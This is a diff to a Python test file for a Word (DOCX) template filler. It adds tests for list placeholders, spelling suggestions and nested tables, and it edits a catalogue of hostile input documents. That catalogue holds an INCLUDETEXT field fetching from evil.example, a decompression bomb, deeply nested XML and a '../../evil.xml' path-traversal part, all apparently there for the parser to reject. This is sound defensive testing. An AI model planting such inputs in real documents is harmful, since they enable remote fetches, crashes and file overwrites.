@@ -170,6 +170,26 @@ def test_every_unknown_word_is_told_with_the_nearest():
     ]
 
 
+def test_a_paragraph_of_two_lists_is_told():
+    lists = {"actions": [{"due": "1"}], "team": [{"no": "1"}]}
+    (fault,) = faults(document(paragraphs(["{actions.due} {team.no}"])), words(lists=lists))
+    assert "actions" in fault.placeholder
+    assert "team" in fault.placeholder
+
+
+def test_the_nearest_word_of_a_list_is_in_the_language_that_was_written():
+    (fault,) = faults(document(paragraphs(["{tindak_lanjut.tengat}"])), known("rtl"))
+    assert fault.nearest == "{tindak_lanjut.tenggat}"
+
+
+def test_of_tables_within_a_table_the_inner_row_repeats():
+    inner = f"<w:tbl><w:tr><w:tc>{paragraphs(['{actions.due}'])}</w:tc></w:tr></w:tbl>"
+    outer = f"<w:tbl><w:tr><w:tc>{paragraphs(['{summary}'])}{inner}</w:tc></w:tr></w:tbl>"
+    lists = {"actions": [{"due": "{summary}"}, {"due": "2"}]}
+    filled = fill(document(outer), words({"summary": "S"}, lists))
+    assert said(filled) == ["S", "{summary}", "2"]
+
+
 def test_the_same_data_gives_the_same_bytes():
     parts = document(paragraphs(["{village_name}"]))
     once = package.write(fill(parts, words({"village_name": "X"})))
@@ -267,8 +287,9 @@ HOSTILE = {
     "a field that runs": zipped(FIELD),
     "a field that runs, by another prefix": zipped(
         {
-            package.BODY: f'<x:document xmlns:x="{W}"><x:body><x:p><x:r><x:instrText>INCLUDETEXT '
-            "http://evil.example/x</x:instrText></x:r></x:p></x:body></x:document>".encode()
+            **GOOD,
+            "word/header1.xml": f'<x:hdr xmlns:x="{W}"><x:p><x:r><x:instrText>INCLUDETEXT '
+            "http://evil.example/x</x:instrText></x:r></x:p></x:hdr>".encode(),
         }
     ),
     "a simple field that fetches": zipped(
@@ -289,6 +310,9 @@ HOSTILE = {
     "elements without end": zipped({package.BODY: b"<a>" * 100_000 + b"</a>" * 100_000}),
     "a million elements": zipped({package.BODY: b"<a>" + b"<b/>" * 1_000_000 + b"</a>"}),
     "a bomb": zipped({**GOOD, "word/media/a.xml": b"0" * (21 << 20)}),
+    "text by another prefix": zipped(
+        {package.BODY: f'<x:document xmlns:x="{W}"><x:body/></x:document>'.encode()}
+    ),
     "no document in it": zipped({"a.xml": b"<a/>"}),
     "broken XML": zipped({package.BODY: b"<w:document"}),
     "a part outside": zipped({**GOOD, "../../evil.xml": b"<a/>"}),
